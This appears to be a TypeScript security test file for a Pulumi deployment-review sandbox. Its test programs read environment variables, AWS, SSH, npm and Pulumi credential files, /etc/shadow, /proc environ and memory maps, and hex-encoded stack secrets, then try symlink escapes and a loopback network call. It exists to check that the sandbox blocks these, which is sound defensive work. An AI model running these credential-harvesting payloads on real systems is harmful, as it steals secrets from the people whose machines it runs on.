import { symlinkSync } from "node:fs";
import { createServer } from "node:net";
import { join } from "node:path";
import type { Attack } from "../../support/attack";
import { byChange } from "./attack";
import { CLOSED, type Outcome, program, type ReviewField } from "./field";

/** The program reports what it found in plain text, where a review picks it up. */
const tells = (code: string) =>
  program(
    CLOSED,
    `const fs = require("fs"), path = require("path");
const found = [];
const read = (file) => { try { found.push(file + "=" + fs.readFileSync(file, "latin1")); } catch (e) { found.push(file + "!" + e.code); } };
${code}
for (let at = 0; at < found.length; at += 50) pulumi.log.error("LOOKED " + found.slice(at, at + 50).join("\\n"));`,
  );
const writes = (code: (field: ReviewField) => string) => (field: ReviewField) =>
  field.write(field.change, "stacks/index.js", tells(code(field)));
/** An attack that never ran does not count as held. */
const looked = ({ text }: Outcome) => (text.includes("LOOKED") ? [] : ["the program did not get to look"]);

export const SECRETS: Attack[] = [
  byChange(
    "reads its environment",
    writes(() => "found.push(JSON.stringify(process.env));"),
    looked,
  ),
  byChange(
    "reads the home and every file of a login",
    writes(
      (
        field,
      ) => `for (const home of [require("os").homedir(), process.env.HOME, "/root", "/home/runner", ${JSON.stringify(field.home)}])
  for (const name of [".aws/credentials", ".netrc", ".npmrc", ".pulumi/credentials.json", ".ssh/id_ed25519"]) read(path.join(home, name));
for (const up of ["..", "../..", "../../..", "/tmp", "/work", "/etc/shadow"]) try { found.push(up + ":" + fs.readdirSync(up)); } catch (e) { found.push(e.code); }`,
    ),
    looked,
  ),
  byChange(
    "reads the environment and the memory of every process that it sees, its parents first",
    writes(
      () => `for (const pid of ["self", process.ppid, ...fs.readdirSync("/proc").filter((name) => /^\\d+$/.test(name))])
  for (const name of ["environ", "cmdline", "maps", "root/etc/passwd"]) read("/proc/" + pid + "/" + name);`,
    ),
    looked,
  ),
  byChange(
    "prints the stack's secrets, nested ones too",
    writes(
      () => `const config = new pulumi.Config("dbferry");
const hex = (text) => Buffer.from(text).toString("hex");
found.push(hex(config.require("password")), hex(JSON.stringify(config.requireObject("nested"))), hex(process.env.PULUMI_CONFIG), config.requireObject("nested").plain);`,
    ),
    (outcome) => [
      ...looked(outcome),
      ...(outcome.text.includes("as it is") ? [] : ["what is no secret did not reach the program"]),
      ...(/LOOKED 4161312d/.test(outcome.text) ? [] : ["no placeholder stands for the password"]),
    ],
  ),
  byChange(
    "is a link: a stack file and a folder that lead out",
    (field) => {
      field.write(
        field.change,
        "stacks/index.js",
        tells('read(path.join(__dirname, "keys")); read(path.join(__dirname, "../out/.aws/credentials"));'),
      );
      symlinkSync(join(field.home, ".aws/credentials"), join(field.change, "stacks/keys"));
      symlinkSync("../home", join(field.change, "out"));
      symlinkSync(join(field.home, ".aws/credentials"), join(field.change, "stacks/Pulumi.link.yaml"));
    },
    (outcome) => [
      ...looked(outcome),
      ...(outcome.report?.verdict === "refused" ? [] : [`verdict ${outcome.report?.verdict}`]),
      ...(["stacks/keys", "out", "stacks/Pulumi.link.yaml"].every((path) =>
        outcome.report?.touched.some((one: { where: string }) => one.where === path),
      )
        ? []
        : ["not every link is shown"]),
    ],
  ),
  overTheNetwork(),
];

/** Calls a service on this machine and one of the engine's, by their ports. */
function overTheNetwork(): Attack {
  return {
    family: "reviews",
    name: "sends what it has to a server of this machine",
    async run() {
      let calls = 0;
      const server = createServer((socket) => {
        calls += 1;
        socket.destroy();
      });
      await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
      const { port } = server.address() as { port: number };
      try {
        const attack = byChange(
          "",
          writes(
            () => `require("net").connect(${port}, "127.0.0.1").on("error", () => {});
found.push(fs.readFileSync("/proc/net/tcp", "utf8"), JSON.stringify(require("os").networkInterfaces()));`,
          ),
          looked,
        );
        const result = await attack.run();
        return calls === 0 ? result : { ...result, held: false, leaked: true, detail: `${calls} calls arrived` };
      } finally {
        server.close();
      }
    },
  };
}
